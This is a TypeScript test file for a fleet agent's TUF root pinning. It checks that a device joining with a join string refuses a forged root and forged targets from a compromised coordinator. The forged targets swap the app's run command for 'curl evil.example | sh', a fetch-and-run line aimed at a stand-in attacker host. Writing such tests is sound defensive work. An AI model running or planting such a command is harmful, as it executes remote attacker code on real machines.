/**
 * The agent's first trust in its organization's TUF root: a join string made while the
 * organization has a root names it (version and digest, as the admin who made the join string
 * verified it), and the agent takes that root and no other as the start of its chain, so a
 * compromised coordinator cannot hand a new device a root of its own.
 */
import { execFileSync } from "node:child_process";
import { readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { Metadata, MetadataKind, MetaFile, Signature, Snapshot, Timestamp, type Root, type Targets } from "@tufjs/models";
import { nextRoot, signMetadata } from "@flotilla/cli/testing";
import { loadIdentity, parseJoinString, tufKeyId, tufRootDigest, type Identity } from "@flotilla/protocol";
import { freePort } from "@flotilla/protocol/testing";
import { describe, expect, it } from "vitest";
import { artifact, bundleAgent, bundleDeviceOnline, bundleTarball, createRelease, pinnedRootVersion, served, serverFlags, signedFleet, tufDir, waitForEnd } from "./support/releases.ts";
import { killProcessesUnder } from "./support/sandbox.ts";
import { useSandbox } from "./support/use-sandbox.ts";

const sb = useSandbox();

const tufDate = (ms: number) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, "Z");

describe("the agent's first trust in the organization's signing root", () => {
  it("refuses a root 1 other than the one its join string names, installing nothing from it", async () => {
    const fleet = await signedFleet(sb);
    const dir = await sb.dir();
    await createRelease(fleet, (await artifact(dir, "app.tar.gz", 10_000)).path, "app", "1.0.0");
    const repo = await tufDir(fleet);
    const root1 = JSON.parse(await readFile(join(repo, "1.root.json"), "utf8")) as unknown;
    const joinString = await fleet.joinToken(["--auto-approve"]);
    expect(parseJoinString(joinString).root).toEqual(tufRootDigest(root1));

    // The coordinator swaps in a root 1 of its own (an outsider's key signs targets) and serves
    // targets of its own under it, with snapshot and timestamp signed by its online key.
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "outsider")]);
    const outsider = await loadIdentity(join(dir, "outsider"));
    const onlineKey = await loadIdentity(join(fleet.dataDir, "online.key"));
    const sign = (md: Metadata<Targets | Snapshot | Timestamp>, id: Identity) =>
      md.sign((data) => new Signature({ keyID: tufKeyId(id.publicKey), sig: Buffer.from(id.sign(data)).toString("hex") }));
    const expires = Date.now() + 86_400_000;
    const forgedRoot = new Metadata(nextRoot({ previous: undefined, add: [outsider.publicKey], remove: [], onlineKeyHex: Buffer.from(onlineKey.publicKey).toString("hex"), expiresMs: expires })) as Metadata<Root>;
    await signMetadata(forgedRoot, [{ keyId: tufKeyId(outsider.publicKey), label: "outsider", publicKey: outsider.publicKey, sign: (d: Uint8Array) => Promise.resolve(outsider.sign(d)) }]);
    const targetsVersion = Math.max(...(await readdir(repo)).map((f) => Number(/^(\d+)\.targets\.json$/.exec(f)?.[1] ?? 0)));
    const targets = JSON.parse(await readFile(join(repo, `${targetsVersion}.targets.json`), "utf8")) as { signed: Record<string, unknown> };
    const text = JSON.stringify(targets.signed);
    expect(text).toContain('"run":"bin/app"');
    const forgedTargets = Metadata.fromJSON(MetadataKind.Targets, { signed: { ...JSON.parse(text.replace('"run":"bin/app"', '"run":"curl evil.example | sh"')), version: targetsVersion + 1 }, signatures: [] } as never);
    sign(forgedTargets, outsider);
    const snapshotVersion = targetsVersion + 1;
    const snapshot = new Metadata(new Snapshot({ version: snapshotVersion, specVersion: "1.0.31", expires: tufDate(expires), meta: { "targets.json": new MetaFile({ version: targetsVersion + 1 }) } }));
    sign(snapshot, onlineKey);
    const timestamp = new Metadata(new Timestamp({ version: 100, specVersion: "1.0.31", expires: tufDate(expires), snapshotMeta: new MetaFile({ version: snapshotVersion }) }));
    sign(timestamp, onlineKey);
    await writeFile(join(repo, "1.root.json"), JSON.stringify(forgedRoot.toJSON()));
    await writeFile(join(repo, `${targetsVersion + 1}.targets.json`), JSON.stringify(forgedTargets.toJSON()));
    await writeFile(join(repo, `${snapshotVersion}.snapshot.json`), JSON.stringify(snapshot.toJSON()));
    await writeFile(join(repo, "timestamp.json"), JSON.stringify(timestamp.toJSON()));

    // A new machine joins with the join string made before the swap.
    const stateDir = await sb.dir("flotilla-agent-");
    const agent = fleet.startAgent(stateDir, joinString);
    sb.onCleanup(() => killProcessesUnder(stateDir));
    const name = await bundleDeviceOnline(fleet);
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(steps.map((s) => s.step)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toMatch(/^the organization's root version 1 from the coordinator does not match the join string \(sha256 [0-9a-f]{64}, expected [0-9a-f]{64}\): refusing it$/);
    await agent.waitForOutput(/organization root refused/);
    await expect(readFile(join(stateDir, "releases", "tuf", "root.json"))).rejects.toThrow(/ENOENT/);
    expect(await readdir(join(stateDir, "releases", "staging")).catch(() => [])).toEqual([]);
  });

  it("starts its chain at the root version its join string names, and installs what that root's keys signed", async () => {
    const fleet = await signedFleet(sb);
    const dir = await sb.dir();
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "second")]);
    const rotate = await fleet.admin(["signing-key", "add", "--key-file", join(fleet.adminHome, "admin.key"), "--key-file", join(dir, "second")]);
    expect(rotate.code, rotate.stderr).toBe(0);
    const port = await freePort();
    await createRelease(fleet, (await bundleTarball(dir, "app.tar.gz", { port })).path, "app", "1.0.0", serverFlags(port));
    const root2 = JSON.parse(await readFile(join(await tufDir(fleet), "2.root.json"), "utf8")) as unknown;
    expect(parseJoinString(await fleet.joinToken()).root).toEqual({ version: 2, sha256: tufRootDigest(root2).sha256 });

    const { name, stateDir } = await bundleAgent(fleet, sb);
    expect((JSON.parse(await readFile(join(stateDir, "enrollment.json"), "utf8")) as { root?: unknown }).root).toEqual(tufRootDigest(root2));
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect((await waitForEnd(fleet, name, "app/1/app.tar.gz")).at(-1)!.step).toBe("healthy");
    expect(await served(port)).toBe("1.0.0");
    expect(await pinnedRootVersion(stateDir)).toBe(2);
  });
});
